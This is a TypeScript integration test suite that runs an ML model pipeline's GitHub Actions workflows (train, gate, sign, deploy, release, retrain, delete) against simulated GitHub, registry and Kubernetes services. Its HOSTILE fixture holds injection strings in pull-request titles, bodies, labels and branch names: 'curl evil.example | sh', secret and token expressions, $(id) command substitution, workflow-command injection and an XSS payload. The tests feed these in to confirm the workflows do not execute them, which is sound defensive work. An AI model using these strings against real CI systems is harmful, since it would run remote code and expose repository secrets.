// .github/workflows/road.yml and the examples that call it, run as GitHub's runner would: target local, an image in a folder.
import { createHash } from "node:crypto";
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { homedir, tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";

import { parseRecord } from "../../src/domain/record/record.ts";
import { repositoryDispatch } from "../runner/chained-events.ts";
import { dispatch, type Event, pullRequest, push, release, schedule } from "../runner/events.ts";
import { startMachine, type Machine } from "../runner/machine.ts";
import { runWorkflow, type RunResult } from "../runner/run-workflow.ts";
import { startGitHub, type GitHub } from "../world/github-rest/github.ts";
import { startApiServer, type ApiServer } from "../world/kubernetes/api-server.ts";
import { operate } from "../world/kubernetes/small-operator.ts";
import { startRegistry, type TestRegistry } from "../world/registry/registry.ts";

const root = resolve(import.meta.dirname, "../..");
const examples = join(root, "workflows-examples");
const cache = join(process.env["XDG_CACHE_HOME"] ?? join(homedir(), ".cache"), "model-road");
const MOST_CALLS = 15;
const NAMES = ["main.yml", "pull-request.yml", "run.yml", "models.yml", "scheduled-retrain.yml", "release.yml"];

/** What people write into titles, branches and labels. Git allows no other branch of this kind. */
const HOSTILE = {
  title: '"; curl evil.example | sh; echo "${{ secrets.KUBECONFIG }}\n::set-output name=record::{}',
  body: "$(touch /tmp/road-was-here)\n::add-mask::digits\n`id`",
  labels: ["${{ github.token }}", "'; exit 1; '", "<img src=x onerror=alert(1)>"],
  branch: "x$(id)`id`;echo${IFS}hi&&'\"<b>{{7+7}}",
};

let folder: string;
let github: GitHub;
let machine: Machine;
let registry: TestRegistry;
let cluster: ApiServer;
let url: string;
const runs: Record<string, RunResult> = {};

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "road-"));
  const project = join(folder, "project");
  cpSync(join(examples, "digits"), project, { recursive: true });
  mkdirSync(join(project, ".github/workflows"), { recursive: true });
  mkdirSync(join(project, "data"));
  writeFileSync(join(project, "data/rows.csv"), "1,2\n");
  for (const name of NAMES) cpSync(join(examples, name), join(project, ".github/workflows", name));
  github = await startGitHub({ owner: "acme", name: "digits" });
  registry = await startRegistry();
  cluster = await startApiServer();
  operate(cluster);
  cluster.onProxy = () => ({ status: 200, body: JSON.stringify({ data: { ndarray: [Array(10).fill(0.1)] } }) });
  machine = await startMachine({ root: join(folder, "machine"), toolCache: join(cache, "tools") });
  Object.assign(machine.environment, { OMP_NUM_THREADS: "1", OPENBLAS_NUM_THREADS: "1" });
  machine.environment["XDG_STATE_HOME"] = join(folder, "state");
  machine.environment["XDG_CACHE_HOME"] ??= join(homedir(), ".cache");
  await github.commitFolder({ branch: "main", folder: project, message: "A model" });
});
afterAll(async () => {
  await run("models.yml", dispatch({ inputs: { command: "delete", name: "digits" } }));
  await Promise.all([github.close(), registry.close(), cluster.close()]);
  rmSync(folder, { recursive: true, force: true });
});

async function run(name: string, event: Event): Promise<RunResult> {
  const result = await runWorkflow({
    github,
    machine,
    workflow: `.github/workflows/${name}`,
    event,
    vars: { TARGET: "local", RUNS_ON: "self-hosted" },
    secrets: { OTHER: "no-one-asks-for-this" },
    environments: {
      staging: { vars: { IMAGE: `${registry.host}/digits`, NAMESPACE: "staging" }, refs: ["main"] },
      production: {
        vars: { IMAGE: `${registry.host}/digits`, NAMESPACE: "models", TARGET: "seldon" },
        secrets: { KUBECONFIG: cluster.kubeconfig },
        refs: ["main", "v*"],
      },
    },
    repositories: { "model-road/model-road": root },
  });
  expect(result.requests.filter(({ refused }) => refused !== undefined)).toEqual([]);
  expect(result.requests.length, result.requests.map(({ operation }) => operation).join("\n")).toBeLessThanOrEqual(
    MOST_CALLS,
  );
  return (runs[name] = result);
}

const manifestDigest = (tag: string) => {
  const found = registry.manifests.get("digits")?.get(tag);
  return found && `sha256:${createHash("sha256").update(found.bytes).digest("hex")}`;
};
const job = (result: RunResult, id: string) => result.jobs[`road / ${id}`]!;
const recordOf = (result: RunResult, id: string) => parseRecord(job(result, id).outputs["record"]!);
const stepsOf = (result: RunResult) =>
  Object.fromEntries(Object.values(result.jobs).flatMap((each) => each.steps.map((step) => [step.id, step.outputs])));

test("pull-request.yml: tried in the job, told in one comment; a branch and a title are no commands", async () => {
  await github.commit({
    branch: HOSTILE.branch,
    from: "main",
    files: { "params.yaml": "C: 0.5\nmax_iter: 500\nshuffle_labels: false\n" },
    message: "C",
  });
  const given = { number: 7, head: HOSTILE.branch, ...HOSTILE };
  const result = await run("pull-request.yml", pullRequest(given));
  expect(result.conclusion, result.log).toBe("success");
  expect(stepsOf(result)["train"]).toMatchObject({ skipped: "false" });
  expect(stepsOf(result)["deploy"]).toMatchObject({ operation: "created" });
  expect(github.world.comments).toHaveLength(1);
  expect(github.world.comments[0]!.body).not.toContain("evil.example");
  expect(result.annotations.filter(({ level }) => level === "error")).toEqual([]);
  expect(result.requests.filter(({ method }) => method !== "GET").map(({ operation }) => operation)).toEqual([
    "issues/create-comment",
  ]);
}, 600_000);

test("main.yml: gated, built, signed and deployed, a job for each zone, and no deployment but ours", async () => {
  const result = await run("main.yml", push({ branch: "main" }));
  expect(result.conclusion, result.log).toBe("success");
  expect(Object.keys(result.jobs)).toEqual(["road / train", "road / image", "road / deploy", "road / report"]);
  const record = recordOf(result, "deploy");
  expect(record).toMatchObject({ gate: { decision: "passed" }, deployment: { namespace: "staging", name: "digits" } });
  url = record.deployment!.url;
  const answer = await fetch(url, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ data: { ndarray: [Array(64).fill(8)] } }),
  });
  expect(answer.status).toBe(200);

  expect(github.world.attestations).toMatchObject([
    {
      subjectDigest: record.image!.digest,
      predicate: { gate: { decision: "passed" }, source: { sha: record.source.sha } },
    },
  ]);
  expect(github.world.attestations[0]!.signer).toMatch(/^model-road\/model-road\/\.github\/workflows\/road\.yml@/);
  // What GitHub would record by itself is switched off, so that it can carry the record.
  expect(github.world.deployments.filter(({ payload }) => JSON.stringify(payload) === "{}")).toEqual([]);
}, 600_000);

test("a fork's pull request has the same, less the comment; what the default branch trained is not trained again", async () => {
  await github.commit({ branch: "words", from: "main", files: { "README.md": "Said well.\n" }, message: "Words" });
  const fork = { number: 8, head: "words", fork: "eve/digits", title: HOSTILE.title };
  const event = pullRequest(fork);
  const result = await runWorkflow({
    github,
    machine,
    workflow: ".github/workflows/pull-request.yml",
    event,
    vars: { RUNS_ON: "self-hosted" },
    repositories: { "model-road/model-road": root },
  });
  expect(result.conclusion, result.log).toBe("success");
  // What the default branch trained is there for a fork, too.
  expect(stepsOf(result)["train"]).toMatchObject({ skipped: "true" });
  expect(result.annotations.map(({ level, title }) => [level, title])).toContainEqual([
    "notice",
    "No comment on the pull request",
  ]);
  expect(result.summary).toContain("passed");
  expect(github.world.comments).toHaveLength(1);
}, 600_000);

test("the merged pull request is found again: nothing is trained, its model is deployed", async () => {
  const sha = await github.mergePull(7, "squash");
  const before = { attested: github.world.attestations.length };
  const result = await run("main.yml", push({ branch: "main" }));
  expect(result.conclusion, result.log).toBe("success");
  const record = recordOf(result, "deploy");
  expect(record.training).toMatchObject({ skipped: true });
  expect(record.source.sha).toBe(sha);
  expect(record.deployment?.operation).toBe("updated");
  expect(github.world.attestations.length).toBe(before.attested + 1);
}, 600_000);

test("a docs-only commit trains, builds and restarts nothing, and its image has this commit's tag all the same", async () => {
  const before = recordOf(runs["main.yml"]!, "image").image!.digest;
  const sha = await github.commit({ branch: "main", files: { "README.md": "Said better.\n" }, message: "Words" });
  const result = await run("main.yml", push({ branch: "main" }));
  expect(result.conclusion, result.log).toBe("success");
  expect(recordOf(result, "deploy")).toMatchObject({
    training: { skipped: true },
    deployment: { operation: "unchanged" },
  });
  expect(recordOf(result, "image").image!.digest).toBe(before);
  expect(manifestDigest(`sha-${sha}`)).toBe(before);
}, 600_000);

test("release.yml: that commit's tag is promoted, image and all, and nothing is trained or built", async () => {
  const { digest } = recordOf(runs["main.yml"]!, "image").image!;
  await github.git.git(["tag", "v1.2.3", "main"]);
  const attested = github.world.attestations.length;
  const result = await run("release.yml", release({ tag: "v1.2.3" }));
  expect(result.conclusion, result.log).toBe("success");
  const served = cluster.paths().filter((path) => path.includes("/namespaces/models/seldondeployments/"));
  expect(served).toHaveLength(1);
  expect(JSON.stringify(cluster.get(served[0]!))).toContain(digest);
  expect(["1.2.3", "1.2", "1"].map(manifestDigest)).toEqual([digest, digest, digest]);
  expect(github.world.attestations).toHaveLength(attested);
  expect(github.world.deployments.filter(({ payload }) => JSON.stringify(payload) === "{}")).toEqual([]);
  const unknown = await run("release.yml", dispatch({ inputs: { version: "v9.9.9" } }));
  expect(unknown.conclusion).toBe("failure");
  expect(unknown.annotations[0]?.message).toMatch(/v9\.9\.9/);
}, 600_000);

test("scheduled-retrain.yml: the same data trains nothing, new data does", async () => {
  const first = await run("scheduled-retrain.yml", schedule("23 4 * * 1"));
  expect(first.conclusion, first.log).toBe("success");
  const again = await run("scheduled-retrain.yml", repositoryDispatch({ type: "data-changed" }));
  expect(recordOf(again, "train").training.skipped, again.log).toBe(true);
  await github.commit({ branch: "main", files: { "data/rows.csv": "3,4\n" }, message: "More rows" });
  const fresh = await run("scheduled-retrain.yml", repositoryDispatch({ type: "data-changed" }));
  expect(recordOf(fresh, "train").training).toMatchObject({ skipped: false });
  expect(fresh.conclusion, fresh.log).toBe("success");
  await expect(run("scheduled-retrain.yml", repositoryDispatch({ type: "other" }))).rejects.toThrow(/does not listen/);
}, 600_000);

test("run.yml: other settings by hand; too little accuracy ends the road green and touches nothing", async () => {
  await github.commit({
    branch: "main",
    files: { "train.py": readFileSync(join(examples, "sgd/train.py"), "utf8") },
    message: "Descend",
  });
  const strict = await run(
    "run.yml",
    dispatch({ inputs: { epochs: 1, "minimum-accuracy": 0.99, deploy: true, predict: true } }),
  );
  expect(strict.conclusion, strict.log).toBe("success");
  expect(recordOf(strict, "train").gate?.decision).toBe("rejected");
  expect([
    job(strict, "image").conclusion,
    job(strict, "deploy").conclusion,
    strict.jobs["predict"]?.conclusion,
  ]).toEqual(["skipped", "skipped", "skipped"]);
  const kept = await run("run.yml", dispatch({ inputs: { epochs: 40, momentum: 0.8 } }));
  expect(recordOf(kept, "train")).toMatchObject({
    gate: { decision: "passed" },
    training: { params: { epochs: "40", momentum: "0.8" } },
  });
  expect(job(kept, "image").conclusion).toBe("skipped");
  const asked = await run("run.yml", dispatch({ inputs: { epochs: 40, momentum: 0.8, deploy: true, predict: true } }));
  expect(asked.conclusion, asked.log).toBe("success");
  expect(recordOf(asked, "train").training.skipped).toBe(true);
  expect(asked.jobs["predict"]?.log).toContain('"ndarray"');
}, 600_000);

test("models.yml: lists, says where, deletes; a stage's branch rules hold", async () => {
  const listed = await run("models.yml", dispatch({ inputs: { command: "list" } }));
  expect(JSON.parse(listed.jobs["models"]!.steps[0]!.outputs["models"]!), listed.log).toMatchObject([
    { name: "digits", url },
  ]);
  const found = await run("models.yml", dispatch({ inputs: { command: "get-url", name: "digits" } }));
  expect(found.conclusion, found.log).toBe("success");
  await github.commit({ branch: "other", from: "main", files: { x: "x" }, message: "Other" });
  const other = await run("models.yml", dispatch({ branch: "other", inputs: { command: "delete", name: "digits" } }));
  expect(other.annotations[0]?.message).toContain('Branch "other" is not allowed to deploy to staging');
  expect((await fetch(url, { method: "POST", body: "{}" })).status).not.toBe(0);
  const gone = await run("models.yml", dispatch({ inputs: { command: "delete", name: "digits" } }));
  expect(gone.conclusion, gone.log).toBe("success");
  await expect(fetch(url)).rejects.toThrow(/fetch failed/);
}, 120_000);
